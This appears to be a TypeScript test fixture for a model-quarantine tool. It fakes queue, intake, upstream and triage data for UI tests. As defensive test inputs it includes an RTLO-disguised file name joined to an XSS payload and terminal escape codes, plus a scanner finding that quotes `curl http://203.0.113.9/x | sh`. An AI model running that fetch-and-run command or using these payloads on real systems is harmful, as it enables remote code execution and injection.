import type { Digest } from '#artifact/digest.ts';
import type { IntakesDesk, IntakeView } from '#app/routes/intakes.ts';
import type { QueueDesk, QueueView } from '#app/routes/queue.ts';
import type { Triage } from '#app/routes/triage.ts';
import type { UpstreamDesk, UpstreamsView } from '#app/routes/upstreams.ts';
import type { TriageReport } from '#producers/scan/triage-report.ts';
import { Fault } from '#lib/fault.ts';

type Arriving = QueueView['arriving'][number];
type Listed = Omit<IntakeView, 'outcome'>;

const commit = 'c9745ed1d9f207416be6d2e6f8de32d1f16199bf';
const hostile = 'evil/\u202egnp.exe\u202c<img src=x onerror=alert(1)>\u001b[31m';
const long =
  'a-rather-long-organisation-name-that-goes-on/a-model-with-an-equally-long-name-32b-instruct-gguf-q4_k_m';
const MB = 1_000_000;
const GB = 1000 * MB;

/** What tests turn. */
export interface QuarantineControl {
  empty: boolean;
  /** The next calls of the queue and the upstreams fail. */
  away: boolean;
  /** Repository that has left the queue. */
  gone: string | undefined;
  /** How often the queue was asked for; bytes come with it. */
  turn: number;
  readonly wishes: Parameters<Triage>[0][];
}

const ago = (seconds: number): string =>
  new Date(Date.now() - seconds * 1000).toISOString().replace(/\.\d+Z$/, 'Z');

const transfer = (
  path: string,
  sizeBytes: number,
  receivedBytes: number,
  rest: Partial<Arriving['transfers'][number]> = {},
): Arriving['transfers'][number] => ({
  path,
  sizeBytes,
  receivedBytes: Math.min(sizeBytes, receivedBytes),
  state: 'fetching',
  since: ago(40),
  readers: 1,
  ...rest,
});

function arriving(turn: number, artifact: Digest): Arriving[] {
  const shard = (index: number): string => `model-0000${index}-of-00004.safetensors`;
  return [
    {
      repository: { type: 'models', id: long },
      commit,
      artifact,
      phase: 'fetching',
      since: ago(752),
      why: 'its bytes are on their way',
      paths: [1, 2, 3, 4].map(shard),
      pathCount: 4,
      transfers: [
        transfer(shard(1), 4.9 * GB, 4.9 * GB, { state: 'verifying', readers: 3 }),
        transfer(shard(2), 4.9 * GB, 1.2 * GB + turn * 36 * MB, { readers: 3 }),
        transfer(shard(3), 4.9 * GB, 310 * MB, { state: 'following', readers: 12 }),
        transfer(shard(4), 4.2 * GB, 0, { state: 'waiting', readers: 0 }),
      ],
    },
    {
      repository: { type: 'models', id: hostile },
      commit: 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678',
      artifact: null,
      phase: 'listing',
      since: ago(71),
      why: 'its small files are fetched, so that it gets a name',
      paths: ['config.json', hostile, 'tokenizer.json', 'vocab.txt', 'merges.txt'],
      pathCount: 1204,
      transfers: [transfer(`${hostile}.json`, 61 * 1000, 12_000)],
    },
    {
      repository: { type: 'datasets', id: 'bank/complaints' },
      commit: 'b1b2c3d4e5f60718293a4b5c6d7e8f9012345678',
      artifact,
      phase: 'inspecting',
      since: ago(9),
      why: 'its bytes are here and are being scanned and inventoried',
      paths: ['train.parquet'],
      pathCount: 1,
      transfers: [],
    },
  ];
}

function held(artifact: Digest): QueueView['held'] {
  const approval = {
    rule: 'delivery.approve',
    message: 'this repository is delivered only after an approval',
    who: 'any person of the namespace `default`',
    remedy: 'look at the artifact and approve it in the console or with `weighbridge approve`',
  };
  const malicious = {
    rule: 'integrity.malicious',
    message: `a file would run a command when it is loaded: \`${hostile}\``,
    who: 'the publisher of the model',
    remedy: 'ask for safetensors weights, which cannot carry code; no waiver covers this rule',
  };
  const stale = {
    rule: 'base.scan',
    message: 'a file that steers loading was not read in full: `tokenizer.json`',
    who: 'whoever runs this server',
    remedy: 'raise `scan-bytes`, then ask again',
  };
  const row = { commit, artifact, environment: 'development', since: ago(3600) };
  return [
    {
      ...row,
      repository: { type: 'models', id: 'someone/very-useful-finetune' },
      reasons: [malicious, stale, approval],
    },
    { ...row, repository: { type: 'models', id: hostile }, reasons: [approval] },
    { ...row, repository: { type: 'spaces', id: long }, environment: 'production', reasons: [approval] },
  ];
}

function intakes(artifact: Digest): Listed[] {
  const row: Listed = {
    id: '11111111-1111-1111-1111-111111111111',
    state: 'running',
    source: 'git+https://git.example/vendor/scoring.git',
    repository: { type: 'models', id: 'vendor/scoring' },
    reference: 'main',
    environment: 'staging',
    progress: { files: 3, bytes: 411 * MB, totalFiles: 11, totalBytes: 1.3 * GB },
    commit: null,
    artifact: null,
    fault: null,
    createdAt: ago(120),
    finishedAt: null,
  };
  return [
    row,
    {
      ...row,
      id: '22222222-2222-2222-2222-222222222222',
      state: 'failed',
      source: `https://files.example/${hostile}`,
      repository: { type: 'models', id: 'vendor/embeddings' },
      fault: {
        code: 'source.refused',
        message: 'the address leads into this network: `10.0.0.7`',
        hint: 'allow it with `source-networks`',
      },
      finishedAt: ago(60),
    },
    {
      ...row,
      id: '33333333-3333-3333-3333-333333333333',
      state: 'done',
      source: 'oci://registry.example/models/encoder:1.2',
      repository: { type: 'models', id: 'vendor/encoder' },
      commit,
      artifact,
      finishedAt: ago(30),
    },
  ];
}

function upstreams(): UpstreamsView {
  const host = { kind: 'hub' as const, active: 0, waiting: 0, rateLimit: null, incidents24h: 0 };
  return {
    upstreams: [
      {
        ...host,
        host: 'huggingface.co',
        role: 'upstream',
        state: 'limited',
        requests: 1204,
        failures: 3,
        lastSuccessAt: ago(4),
        lastFailure: { at: ago(6), message: 'the upstream answered 429 to `GET /api/models/gpt2`' },
        active: 2,
        waiting: 14,
        rateLimit: { remaining: 0, resetsAt: ago(-42) },
        incidents24h: 2,
      },
      {
        ...host,
        host: 'cdn-lfs-us-1.content-delivery.example:8443',
        role: 'redirect',
        state: 'away',
        requests: 31,
        failures: 31,
        lastSuccessAt: null,
        lastFailure: { at: ago(12), message: 'the connection was refused' },
        incidents24h: 1,
      },
      {
        ...host,
        host: 'cas-bridge.example',
        role: 'redirect',
        state: 'well',
        requests: 1,
        failures: 0,
        lastSuccessAt: ago(900),
        lastFailure: null,
        active: 1,
      },
    ],
    incidents: [
      {
        at: ago(6),
        upstream: 'huggingface.co',
        kind: 'rate-limited',
        source: 'hf://models/gpt2',
        path: null,
        message: 'upstream asks for a pause of 48 s',
        logIndex: 71,
      },
      {
        at: ago(610),
        upstream: 'cdn-lfs-us-1.content-delivery.example:8443',
        kind: 'wrong-digest',
        source: `hf://models/${hostile}@a1b2c3d4e5f60718293a4b5c6d7e8f9012345678`,
        path: hostile,
        message: `the bytes of \`${hostile}\` have another SHA-256 than the tree declares`,
        logIndex: 70,
      },
      {
        at: ago(4000),
        upstream: 'huggingface.co',
        kind: 'changed-commit',
        source: `hf://models/${long}@${commit}`,
        path: null,
        message: 'the same commit came with another tree',
        logIndex: 12,
      },
    ],
  };
}

function reportOf(id: string): TriageReport {
  const finding = {
    ruleId: 'PKL-CALL-DENIED',
    severity: 'critical' as const,
    message: 'would call `posix.system("curl http://203.0.113.9/x | sh")`',
    location: { member: 'archive/data.pkl', offset: 1204 },
    remedy: 'do not load this file; ask the publisher for safetensors',
  };
  const file = {
    format: 'safetensors',
    verdict: 'nothing found' as const,
    completeness: 'inconclusive' as const,
    declaredSha256: 'ab'.repeat(32),
    sizeBytes: 4.9 * GB,
    bytesCovered: 31_204,
    incompleteReasons: ['not read: 4899968796 of 4900000000 bytes'],
    findings: [],
  };
  const quiet = id === 'quiet/model';
  return {
    kind: 'triage',
    repository: { type: 'models', id, revision: 'main', commit },
    verdict: quiet ? 'nothing found' : 'malicious',
    completeness: 'inconclusive',
    bytesCovered: 93_612 + 61_000,
    bytesTotal: 14.7 * GB + 61_000,
    bytesFetched: 1.1 * MB,
    requests: 14,
    scanner: { name: 'weighbridge-scan', version: '1', ruleSetDigest: `sha256:${'5c'.repeat(32)}` },
    files: [
      { ...file, path: 'model-00001-of-00002.safetensors' },
      { ...file, path: 'model-00002-of-00002.safetensors' },
      {
        ...file,
        path: quiet ? 'notes.md' : `${hostile}.bin`,
        format: 'pytorch-zip+pickle',
        verdict: quiet ? 'nothing found' : 'malicious',
        incompleteReasons: ['the archive has no directory at its end', 'not read: 1 of 2 bytes'],
        findings: quiet ? [] : [finding],
      },
      {
        ...file,
        path: 'config.json',
        format: 'json',
        completeness: 'complete',
        incompleteReasons: [],
        sizeBytes: 61_000,
        bytesCovered: 61_000,
      },
    ],
  };
}

/** Queue, intakes, upstreams and triage with fixed content, of which the queue moves on with each call. */
export function openFixtureQuarantine(artifact: Digest): {
  readonly control: QuarantineControl;
  readonly queue: QueueDesk;
  readonly upstreams: UpstreamDesk;
  readonly listIntakes: IntakesDesk['list'];
  readonly triage: Triage;
} {
  const control: QuarantineControl = { empty: false, away: false, gone: undefined, turn: 0, wishes: [] };
  const here = (): void => {
    if (control.away)
      throw new Fault('database.unavailable', 'the database does not answer', { hint: 'look at `/readyz`' });
  };
  return {
    control,
    queue: {
      view: async () => {
        here();
        control.turn += 1;
        const rows = control.empty
          ? []
          : arriving(control.turn, artifact).filter(({ repository }) => repository.id !== control.gone);
        return {
          at: ago(0),
          arriving: rows,
          arrivingCount: rows.length,
          held: control.empty ? [] : held(artifact),
        };
      },
    },
    upstreams: {
      view: async () => {
        here();
        return control.empty ? { upstreams: upstreams().upstreams.slice(2), incidents: [] } : upstreams();
      },
    },
    listIntakes: async () => (control.empty ? [] : intakes(artifact)),
    triage: async (wish, signal) => {
      control.wishes.push(wish);
      if (wish.repository === 'slow/model')
        await new Promise((resolve) => signal.addEventListener('abort', resolve));
      if (!wish.repository.includes('/'))
        throw new Fault('request.invalid', `\`${wish.repository}\` is not a repository name`, {
          hint: 'write `organisation/name`',
        });
      return reportOf(wish.repository);
    },
  };
}
